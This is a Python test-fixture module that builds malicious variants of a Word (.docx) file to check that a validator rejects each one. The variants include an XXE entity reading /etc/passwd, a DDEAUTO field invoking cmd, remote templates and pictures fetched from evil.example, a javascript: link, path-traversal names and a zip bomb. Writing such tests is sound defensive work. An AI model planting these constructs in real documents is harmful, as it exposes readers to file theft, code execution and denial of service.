"""Files that were made to harm: each is a sound file with one thing added."""

from __future__ import annotations

import struct
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from support.files import parts, zipped

DOCUMENT, STYLES, SETTINGS = "word/document.xml", "word/styles.xml", "word/settings.xml"
TYPES, LINKS = "[Content_Types].xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
Attack = Callable[[bytes], bytes]


def part(name: str, data: bytes) -> Attack:
    """One part more, or another one."""
    return lambda docx: zipped({**parts(docx), name: data})


def without(name: str) -> Attack:
    return lambda docx: zipped({each: data for each, data in parts(docx).items() if each != name})


def swap(name: str, old: str, new: str) -> Attack:
    """Other words in one part."""

    def attack(docx: bytes) -> bytes:
        whole = parts(docx)
        assert old.encode() in whole[name]
        whole[name] = whole[name].replace(old.encode(), new.encode(), 1)
        return zipped(whole)

    return attack


def in_body(xml: str) -> Attack:
    """XML at the head of the document's body."""
    return swap(DOCUMENT, "<w:body>", f"<w:body>{xml}")


def link(kind: str, target: str, outside: bool = True) -> Attack:
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="evil" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return swap(LINKS, "</Relationships>", f"{one}</Relationships>")


def field(code: str) -> str:
    """A paragraph with a field whose code is cut into two runs."""
    half = len(code) // 2
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    runs = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:half], code[half:])
    )
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


def second(again: str) -> Attack:
    """A second member of one name, or of one that differs in case only."""

    def attack(docx: bytes) -> bytes:
        out = BytesIO(docx)
        with ZipFile(out, "a", ZIP_DEFLATED) as package:
            package.NameToInfo.clear()  # else zipfile warns of the name
            package.writestr(again, b"<x/>")
        return out.getvalue()

    return attack


def template(target: str = "http://evil.example/t.dotm") -> Attack:
    """A file that is attached to a template somewhere else."""

    def attack(docx: bytes) -> bytes:
        whole = parts(docx)
        whole["word/_rels/settings.xml.rels"] = (
            f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="t" TargetMode="External" '
            f'Type="{OFFICE}/attachedTemplate" Target="{target}"/></Relationships>'
        ).encode()
        mention = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="t"/>'.encode()
        whole[SETTINGS] = whole[SETTINGS].replace(b"<w:zoom", mention + b"<w:zoom", 1)
        assert mention in whole[SETTINGS]
        return zipped(whole)

    return attack


def _in_directory(docx: bytes, name: str, offset: int, value: bytes) -> bytes:
    """The archive with other bytes in the directory's entry of one part."""
    at = docx.rindex(b"PK\1\2", 0, docx.rindex(name.encode()))
    return docx[: at + offset] + value + docx[at + offset + len(value) :]


def encrypted(docx: bytes) -> bytes:
    return _in_directory(docx, DOCUMENT, 8, struct.pack("<H", 1))


def packed_oddly(docx: bytes) -> bytes:
    return _in_directory(docx, DOCUMENT, 10, struct.pack("<H", 97))


def lying(docx: bytes) -> bytes:
    """A part of 100 MB whose entry says 100 bytes."""
    whole = zipped({**parts(docx), "word/media/a.bin": bytes(100_000_000)})
    return _in_directory(whole, "word/media/a.bin", 24, struct.pack("<I", 100))


def garbled(docx: bytes) -> bytes:
    """The stream of the document is no stream."""
    with ZipFile(BytesIO(docx)) as package:
        entry = package.getinfo(DOCUMENT)
    start = entry.header_offset + 30 + len(DOCUMENT)
    return docx[:start] + b"\xff" * 40 + docx[start + 40 :]


def unnamed(docx: bytes) -> bytes:
    """A part whose name is cut off before it begins."""
    whole = zipped({**parts(docx), "word/media/unnamed": b"x"})
    return whole.replace(b"word/media/unnamed", b"\0ord/media/unnamed")


def cut(docx: bytes) -> bytes:
    return docx[: len(docx) // 2]


def bomb(docx: bytes) -> bytes:
    """A part that is five times what a part may be."""
    return part("word/media/a.bin", bytes(100_000_000))(docx)


DECLARED = '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
HREF = 'xmlns:o="urn:schemas-microsoft-com:office:office" o:href="http://evil.example/"'
NUMBER = '<w:p><w:bookmarkStart w:id="abc" w:name="x"/><w:bookmarkEnd w:id="abc"/></w:p>'
EMPTY = "<w:p/>"

ATTACKS: dict[str, tuple[Attack, str]] = {
    "a macro": (part("word/vbaProject.bin", b"x"), "unsafe-part"),
    "a control": (part("word/activeX/a.xml", b"<x/>"), "unsafe-part"),
    "an embedded object": (part("word/embeddings/o.bin", b"x"), "unsafe-part"),
    "an add-in": (part("word/webextensions/w.xml", b"<x/>"), "unsafe-part"),
    "a name that climbs": (part("../../evil.xml", b"x"), "unsafe-package"),
    "a name from the root": (part("/etc/evil", b"x"), "unsafe-package"),
    "a part without a name": (unnamed, "unsafe-package"),
    "a name of Windows": (part("c:evil", b"x"), "unsafe-package"),
    "a second document": (second(DOCUMENT), "unsafe-package"),
    "a document in capitals": (second("word/Document.xml"), "unsafe-package"),
    "too many parts": (
        lambda docx: zipped({**parts(docx), **{f"word/media/{n}": b"" for n in range(2000)}}),
        "unsafe-package",
    ),
    "a bomb": (bomb, "unsafe-package"),
    "a directory that lies": (lying, "not-a-docx"),
    "an encrypted part": (encrypted, "unsafe-package"),
    "an unknown packing": (packed_oddly, "unsafe-package"),
    "a garbled stream": (garbled, "not-a-docx"),
    "half a file": (cut, "not-a-docx"),
    "no file": (lambda docx: b"", "not-a-docx"),
    "a document type": (swap(DOCUMENT, "?>", DECLARED), "unsafe-part"),
    "a document type in the styles": (swap(STYLES, "?>", DECLARED), "unsafe-part"),
    "a document type in the links": (swap(LINKS, "?>", DECLARED), "unsafe-part"),
    "a document type in the types": (swap(TYPES, "?>", DECLARED), "unsafe-part"),
    "another encoding": (swap(DOCUMENT, "UTF-8", "UTF-7"), "unsafe-part"),
    "a linked picture": (link("image", "http://evil.example/p.png"), "unsafe-link"),
    "a linked object": (link("oleObject", "file:///c:/o.bin"), "unsafe-link"),
    "a frame": (link("frame", "http://evil.example/"), "unsafe-link"),
    "a sub-document": (link("subDocument", "x.docx", outside=False), "unsafe-link"),
    "a link that runs": (link("hyperlink", "javascript:alert(1)"), "unsafe-link"),
    "a link to a share": (link("hyperlink", "file://evil.example/x"), "unsafe-link"),
    "text of another file": (in_body("<w:altChunk/>"), "unsafe-content"),
    "an object in the text": (in_body("<w:p><w:r><w:object/></w:r></w:p>"), "unsafe-content"),
    "a sub-document in the text": (in_body("<w:subDoc/>"), "unsafe-content"),
    "a drawing's source": (
        in_body(f'<w:p><w:r><w:pict><v:imagedata {VML} src="http://evil.example/p.png"/>'
                "</w:pict></w:r></w:p>"),
        "unsafe-link",
    ),
    "a drawing's link": (
        in_body(f'<w:p><w:r><w:pict><v:shape {VML} href="file://evil.example/x"/></w:pict></w:r>'
                "</w:p>"),
        "unsafe-link",
    ),
    "an office link": (
        in_body(f"<w:p><w:r><w:pict><v:shape {VML} {HREF}/></w:pict></w:r></w:p>"), "unsafe-link"
    ),
    "a field that runs": (in_body(field("DDEAUTO c:\\\\windows\\\\cmd")), "unsafe-content"),
    "a field that includes": (in_body(field('INCLUDETEXT"c:/x"')), "unsafe-content"),
    "a field that fetches": (
        in_body('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/"/></w:p>'),
        "unsafe-content",
    ),
    "a flood of paragraphs": (in_body(EMPTY * 25_000), "unsafe-part"),
    "a flood of elements": (in_body("<w:p>" + "<w:r/>" * 600_000 + "</w:p>"), "unsafe-part"),
    "a flood of words": (
        in_body("<w:p><w:r><w:t>" + "a " * 700_000 + "</w:t></w:r></w:p>"), "unsafe-part"
    ),
    "a deep nest": (in_body("<w:sdt>" * 3000 + "</w:sdt>" * 3000), "unsafe-part"),
    "an id that is no number": (in_body(NUMBER), "impossible-value"),
    "a web page as document": (part(DOCUMENT, b"<html/>"), "not-a-docx"),
    "a document without a body": (
        swap(DOCUMENT, "<w:body>", "<w:other><w:body>"), "broken-part",
    ),
    "no document": (without(DOCUMENT), "not-a-docx"),
    "broken styles": (part(STYLES, b"<w:styles"), "broken-part"),
    "a style of no level": (swap(STYLES, "<w:outlineLvl w:val=\"0\"/>",
                                 "<w:outlineLvl w:val=\"first\"/>"), "impossible-value"),
}  # fmt: skip
"""Each attack by its name, and the rule that refuses it."""
